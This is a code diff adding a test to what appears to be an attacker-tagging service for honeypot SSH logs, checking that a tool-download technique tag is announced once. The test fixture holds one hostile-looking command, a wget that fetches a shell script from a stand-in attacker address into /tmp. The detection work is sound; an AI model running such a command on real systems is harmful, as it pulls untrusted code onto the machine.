@@ -141,6 +141,25 @@ describe('tags wait for their attacker instead of being dropped', () => {
     }, 10_000);
   });
 
+  it('announces a tag once when the live command and its session replay wait and are written together', async () => {
+    const { bus, ttp } = await start({ pendingRetryMs: 60_000 });
+    const ip = '203.0.113.52';
+    const cmd = 'wget http://203.0.113.9/x.sh -O /tmp/x.sh';
+    await bus.publish('log.event.ssh', logEvent({ event_type: 'command', attacker_ip: ip, time: '2026-05-02T06:00:10.000Z', fields: { cmd, user: 'root', sid: 'sess-1' } }));
+    await bus.publish('attacker.session.ended', session([cmd], { attacker_ip: ip }));
+    // Both sources derive the same tag; both wait for the attacker, then go out in one write.
+    await eventually(async () => ((await ttp.health()).pending as number) === 2, 10_000);
+    await database.pool.query('INSERT INTO attackers (uuid, ip) VALUES ($1, $2)', [OTHER, ip]);
+    await bus.publish('attacker.scored', { attacker_ip: ip, event_count: 2 });
+    await eventually(async () => {
+      const detail = await ttp.health();
+      return detail.pending === 0 && detail.inserted === 1 && detail.published === 2;
+    }, 10_000);
+    expect(await count('attacker_uuid = $1', [OTHER])).toBe(1);
+    expect(ttp.tagged.events.map((e) => e.payload.techniques_added)).toEqual([['T1105']]);
+    expect(ttp.fired.events.map((e) => e.topic)).toEqual(['ttp.rule.fired.T1105']);
+  });
+
   it('keeps waiting tags across a graceful restart', async () => {
     const first = await start({ pendingRetryMs: 60_000 });
     await first.bus.publish('log.event.ssh', logEvent({ event_type: 'command', attacker_ip: '203.0.113.51', fields: { cmd: 'whoami' } }));
